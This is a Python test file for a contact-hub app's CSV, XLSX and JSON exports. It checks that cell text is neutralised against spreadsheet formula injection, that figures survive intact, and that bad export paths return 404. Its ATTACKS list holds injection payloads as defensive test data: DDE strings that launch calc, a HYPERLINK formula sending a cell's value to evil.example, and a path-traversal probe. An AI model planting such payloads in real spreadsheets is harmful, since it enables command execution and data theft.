"""Tables as files: the same figures, and nothing in them that a spreadsheet would carry out."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from typing import Any
from xml.etree import ElementTree

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st

from contact_hub.managers.exports import as_csv, as_json, as_xlsx, harmless
from contact_hub.managers.tables import FEW, Cell, Column, Figure, Table
from contact_hub.staff.models import Role
from tests.hub.line import Line
from tests.hub.test_staff import browser, browsers, hire, sign_in

__all__ = ["browser", "browsers"]

ATTACKS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1-1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=HYPERLINK(1)",
    "  =1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    '=HYPERLINK("https://evil.example?x="&A1,"ok")',
    "\x00=1+1",
)
WORDS = st.one_of(st.sampled_from(ATTACKS), st.text(max_size=20))


def table(*cells: Cell) -> Table:
    return Table("bot", "The bot: [all]", [Column("Topic")], [[cell] for cell in cells])


def read_csv(made: bytes) -> list[list[str]]:
    assert made.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(made.decode("utf-8-sig"), newline="")))


def sheet_of(made: bytes) -> Any:
    with zipfile.ZipFile(io.BytesIO(made)) as book:
        assert not any("external" in name or "macro" in name.lower() for name in book.namelist())
        return ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))


@given(WORDS)
def test_no_text_begins_like_a_formula(words: str) -> None:
    safe = harmless(words)
    assert safe.lstrip(" \ufeff")[:1] not in tuple("=+-@\t\r\n＝＋－＠")
    assert safe.lstrip("'").replace("\x00", "") == words.replace("\x00", "").lstrip("'")
    assert harmless(safe) == safe, "what was made safe stays as it is"


@given(st.lists(WORDS, max_size=5))
def test_a_csv_holds_every_cell_in_its_place(words: list[str]) -> None:
    rows = read_csv(as_csv(table(*words), "2026"))
    assert rows[0] == ["Topic"]
    if all(words):  # a line with one empty cell is an empty line
        assert [row[0] for row in rows[1:]] == [harmless(word) for word in words]


@given(st.lists(WORDS, min_size=1, max_size=5))
def test_a_spreadsheet_holds_no_formula_and_no_link(words: list[str]) -> None:
    root = sheet_of(as_xlsx(table(*words, "https://evil.example"), "2026"))
    tags = {element.tag.rpartition("}")[2] for element in root.iter()}
    assert not tags & {"f", "hyperlink", "hyperlinks"}


@given(st.lists(st.lists(st.one_of(WORDS, st.integers(-9, 9)), min_size=2, max_size=4), max_size=4))
def test_no_cell_of_a_file_is_a_formula_and_none_is_lost(rows: list[list[str | int]]) -> None:
    width = max(map(len, rows), default=2)
    rows = [[*row, *[""] * (width - len(row))] for row in rows]
    heads: list[str | int] = [f"={n}" for n in range(width)]
    made = Table("bot", "=1+1", [Column(str(head)) for head in heads], rows)
    read = read_csv(as_csv(made, "2026"))
    assert len(read) == len(rows) + 1
    for cells, told in zip([heads, *rows], read, strict=True):
        for cell, found in zip(cells, told, strict=True):
            number = isinstance(cell, int)
            assert found == (str(cell) if number else harmless(str(cell)))
            assert number or found[:1] not in tuple("=+-@\t\r\n＝＋－＠"), "a number may be less than nothing"
    sheet = sheet_of(as_xlsx(made, "2026"))
    assert not [element for element in sheet.iter() if element.tag.endswith("}f")]
    said = json.loads(as_json(made, "2026"))
    assert said["rows"] == rows, "what reads JSON takes nothing for a formula"


def test_plain_words_and_numbers_stay_as_they_are() -> None:
    for words in ("Waste and Recycling", "'quoted'", "2026-11-02", "not known", "a=b", ""):
        assert harmless(words) == words
    made = table(-3, 0.25, None, FEW, Figure(-1.5, "score"), 'say "no", please')
    assert read_csv(as_csv(made, "2026"))[1:] == [
        ["-3"],
        ["0.25"],
        [""],
        ["hidden"],
        ["-1.5"],
        ['say "no", please'],
    ]
    said = json.loads(as_json(made, "2026-11-01 to 2026-11-28"))
    assert said["rows"] == [[-3], [0.25], [None], ["hidden"], [-1.5], ['say "no", please']]
    assert b"\r\n" in as_csv(made, "2026")


def test_a_file_says_in_what_its_durations_are_and_a_spreadsheet_shows_each_number_as_what_it_is() -> None:
    heads = [Column("Figure"), Column("Value", "count"), Column("First word after", "minutes")]
    rows: list[list[Cell]] = [["Conversations", 79, 12.4], ["Resolved after", Figure(0.5, "minutes"), None]]
    made = Table("overview", "Key figures", heads, rows)
    assert read_csv(as_csv(made, "2026")) == [
        ["Figure", "Value", "First word after, minutes"],
        ["Conversations", "79", "12.4"],
        ["Resolved after, minutes", "0.5", ""],
    ]
    with zipfile.ZipFile(io.BytesIO(as_xlsx(made, "2026"))) as book:
        words, styles = (book.read(f"xl/{part}.xml").decode() for part in ("sharedStrings", "styles"))
    assert "First word after, minutes" in words and "Resolved after, minutes" in words
    assert "0.##" not in styles, "which shows 79 as '79.'"


@pytest.mark.parametrize("kind", ["csv", "xlsx", "json"])
async def test_every_table_of_the_page_can_be_taken_along(
    line: Line, browser: httpx.AsyncClient, kind: str
) -> None:
    await hire(line, "Nora Ek", Role.MANAGER)
    await sign_in(browser, "Nora Ek")

    links = re.findall(
        rf'href="(/managers/export/[a-z]+\.{kind}\?[^"]+)"', (await browser.get("/managers")).text
    )
    assert len(links) == 11
    for link in links:
        answer = await browser.get(link.replace("&amp;", "&"))
        assert answer.status_code == 200, link
        assert re.fullmatch(
            rf'attachment; filename="civicline-[a-z]+-[\d-]+\.{kind}"', answer.headers["content-disposition"]
        )
        if kind == "json":
            assert re.fullmatch(r"[\d-]{7,10} to [\d-]{7,10}", answer.json()["period"])
            months = answer.json()["title"] == "Twelve months"
            assert (len(answer.json()["period"]) == len("2026-01 to 2026-12")) == months
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["cache-control"] == "no-store"
    trail = await line.sql("SELECT viewer_name, subject, words FROM audit WHERE action = 'figures.exported'")
    period = f"{_in(links[0], 'first')} to {_in(links[0], 'last')}"
    assert sorted((row.viewer_name, row.subject) for row in trail) == sorted(
        ("Nora Ek", _in(link, "key")) for link in links
    )
    assert [row.words for row in trail] == [{"period": period, "by": "week", "kind": kind}] * len(links)


def _in(link: str, name: str) -> str:
    """The key of a table's link, or a day in it."""
    pattern = r"/export/([a-z]+)\." if name == "key" else rf"{name}=([\d-]+)"
    (found,) = re.findall(pattern, link)
    return str(found)


@pytest.mark.parametrize(
    "path",
    ["nothing.csv", "bot.exe", "bot.csv?by=everything", 'bot".csv', "..%2f..%2fetc.csv", "bot.csv?by=all"],
)
async def test_what_is_no_table_is_not_there(line: Line, browser: httpx.AsyncClient, path: str) -> None:
    await hire(line, "Nora Ek", Role.MANAGER)
    await sign_in(browser, "Nora Ek")
    assert (await browser.get(f"/managers/export/{path}")).status_code == 404
